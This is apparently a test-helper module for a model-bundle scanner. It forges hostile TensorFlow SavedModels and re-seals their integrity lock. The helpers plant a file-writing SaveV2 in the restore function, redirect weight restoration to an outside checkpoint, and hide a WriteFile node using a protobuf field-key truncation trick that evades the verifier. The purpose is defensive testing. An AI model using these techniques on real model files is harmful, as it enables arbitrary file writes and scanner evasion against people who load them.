"""Helpers that forge hostile SavedModels, as the author of a bundle can, then re-seal the lock.

Each edits a real ``saved_model/saved_model.pb`` of a bundle with TensorFlow's own protos (what a
loader reads) or, where the attack is in the encoding itself, writes the bytes by hand: the
protobuf wire format in ``field`` and ``varint``. Every forger re-seals the lock, so integrity
passes and only the graph scan stands between the bundle and a loader.
"""

from __future__ import annotations

import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

from .hostile import edit_lock, reseal

DT_STRING = 7
SAVED_MODEL = Path("saved_model") / "saved_model.pb"


def varint(value: int) -> bytes:
    """``value`` as a protobuf varint, in its shortest form."""
    out = bytearray()
    while True:
        byte, value = value & 0x7F, value >> 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)


def field(number: int, payload: bytes) -> bytes:
    """A length-delimited field: key, length, payload."""
    return varint(number << 3 | 2) + varint(len(payload)) + payload


def read_saved_model(root: Path) -> Any:
    from tensorflow.core.protobuf import saved_model_pb2

    return saved_model_pb2.SavedModel.FromString((root / SAVED_MODEL).read_bytes())


def write_sealed(root: Path, data: bytes) -> None:
    (root / SAVED_MODEL).write_bytes(data)
    reseal(root)


def edit_saved_model(root: Path, change: Callable[[Any], None]) -> None:
    """Let ``change`` edit the SavedModel proto in place, then write it and re-seal the lock."""
    saved_model = read_saved_model(root)
    change(saved_model)
    write_sealed(root, saved_model.SerializeToString())


def serve_only_the_graph(root: Path) -> None:
    """Pin the component to a release nobody has, so that 'fallback' serves the graph."""

    def pin(lock: dict[str, Any]) -> None:
        component = lock["components"][0]
        component.update(version="9.0.0", requirement="==9.0.0", compatible=">=9.0.0 <10.0.0")

    edit_lock(root, pin)


def replace_serving_function(root: Path, body: Callable[[Any], Any]) -> None:
    """Export a SavedModel whose serving function is ``body(x)`` in place of the bundle's own,
    with the same input signature, then re-seal the lock."""
    import tensorflow as tf

    folder = root / "saved_model"
    original = tf.saved_model.load(str(folder)).signatures["serving_default"]
    ((name, spec),) = original.structured_input_signature[1].items()

    # TensorFlow has no type hints: its base class and its decorator are Any to mypy
    class Hostile(tf.Module):  # type: ignore[misc]
        @tf.function(input_signature=[tf.TensorSpec(spec.shape, spec.dtype, name=name)])  # type: ignore[untyped-decorator]
        def serve(self, x: Any) -> Any:
            return {"output_0": body(x)}

    module = Hostile()
    shutil.rmtree(folder)
    tf.saved_model.save(module, str(folder), signatures={"serving_default": module.serve})
    reseal(root)
    serve_only_the_graph(root)


def _string_const(nodes: Any, name: str, values: list[bytes], *, vector: bool) -> None:
    node = nodes.add(name=name, op="Const")
    node.attr["dtype"].type = DT_STRING
    tensor = node.attr["value"].tensor
    tensor.dtype = DT_STRING
    if vector:
        tensor.tensor_shape.dim.add(size=len(values))
    tensor.string_val.extend(values)


def saver_function(meta_graph: Any, role: str) -> Any:
    """The FunctionDef the ``saver_def``'s restore (or save) node calls."""
    saver = meta_graph.saver_def
    name = saver.restore_op_name if role == "restore" else saver.save_tensor_name
    caller = next(n for n in meta_graph.graph_def.node if n.name == name.split(":")[0])
    called = caller.attr["f"].func.name
    return next(f for f in meta_graph.graph_def.library.function if f.signature.name == called)


def _gate(function: Any, node: str) -> None:
    """Make the function's first result wait for ``node``, so that calling it runs the node."""
    returned = next(iter(function.ret.values())).split(":")[0]
    next(n for n in function.node_def if n.name == returned).input.append(f"^{node}")


def plant_a_checkpoint_in_the_restore_function(root: Path, target: Path) -> None:
    """A SaveV2 with a constant path added to the body of the restore function (which
    TensorFlow Serving runs at every load): it writes ``target`` wherever that is."""

    def change(saved_model: Any) -> None:
        function = saver_function(saved_model.meta_graphs[0], "restore")
        nodes = function.node_def
        _string_const(nodes, "planted/prefix", [str(target).encode()], vector=False)
        _string_const(nodes, "planted/names", [b"planted"], vector=True)
        _string_const(nodes, "planted/slices", [b""], vector=True)
        _string_const(nodes, "planted/data", [b"written by the restore op"], vector=False)
        save = nodes.add(name="planted/save", op="SaveV2")
        save.input.extend(f"planted/{n}:output:0" for n in ("prefix", "names", "slices", "data"))
        save.attr["dtypes"].list.type.append(DT_STRING)
        _gate(function, "planted/save")

    edit_saved_model(root, change)


def restore_from_outside(root: Path, prefix: Path) -> None:
    """The restore function's RestoreV2 reads the checkpoint at ``prefix`` (a constant), not the
    one the loader feeds: a server restores the weights of the attacker's choosing."""

    def change(saved_model: Any) -> None:
        function = saver_function(saved_model.meta_graphs[0], "restore")
        _string_const(function.node_def, "outside/prefix", [str(prefix).encode()], vector=False)
        restore = next(n for n in function.node_def if n.op == "RestoreV2")
        restore.input[0] = "outside/prefix:output:0"

    edit_saved_model(root, change)


def write_graph_bytes(root: Path, saved_model: Any, graph: bytes) -> None:
    """Write ``saved_model`` with its first meta graph's GraphDef replaced by ``graph``, bytes
    encoded by hand, then re-seal the lock."""
    meta_graph = saved_model.meta_graphs[0]
    meta_graph.ClearField("graph_def")
    meta = meta_graph.SerializeToString() + field(2, graph)
    write_sealed(root, varint(1 << 3) + varint(1) + field(2, meta))


def add_node_bytes(root: Path, node: bytes) -> None:
    """Append a node encoded by hand to the top-level graph."""
    saved_model = read_saved_model(root)
    graph = saved_model.meta_graphs[0].graph_def.SerializeToString()
    write_graph_bytes(root, saved_model, graph + field(1, node))


def hide_a_write_in_the_init_op(root: Path, target: Path) -> bytes:
    """A ``WriteFile`` of ``target`` that the init op waits for, encoded as ``GraphDef.node``
    under a field key with bit 32 set: field 2**29 + 1 to a reader that takes the 5-byte key
    whole, field 1 (a node) to protobuf's C++ parser, which keeps the low 32 bits. Returns the
    GraphDef's bytes as the C++ parser of a loader like TensorFlow Serving receives them."""
    from tensorflow.core.framework import graph_pb2

    saved_model = read_saved_model(root)
    meta_graph = saved_model.meta_graphs[0]
    init = meta_graph.signature_def["__saved_model_init_op"].outputs["__saved_model_init_op"]
    next(n for n in meta_graph.graph_def.node if n.name == init.name.split(":")[0]).input.append(
        "^hidden/write"
    )
    hidden = graph_pb2.GraphDef()
    _string_const(hidden.node, "hidden/path", [str(target).encode()], vector=False)
    _string_const(hidden.node, "hidden/data", [b"written by a node verify never saw"], vector=False)
    hidden.node.add(name="hidden/write", op="WriteFile", input=["hidden/path", "hidden/data"])
    high_key = bytes([0x8A, 0x80, 0x80, 0x80, 0x10])  # 0x0a (field 1, length) + 2**32
    graph: bytes = meta_graph.graph_def.SerializeToString() + b"".join(
        high_key + varint(len(node)) + node for node in (n.SerializeToString() for n in hidden.node)
    )
    write_graph_bytes(root, saved_model, graph)
    return graph
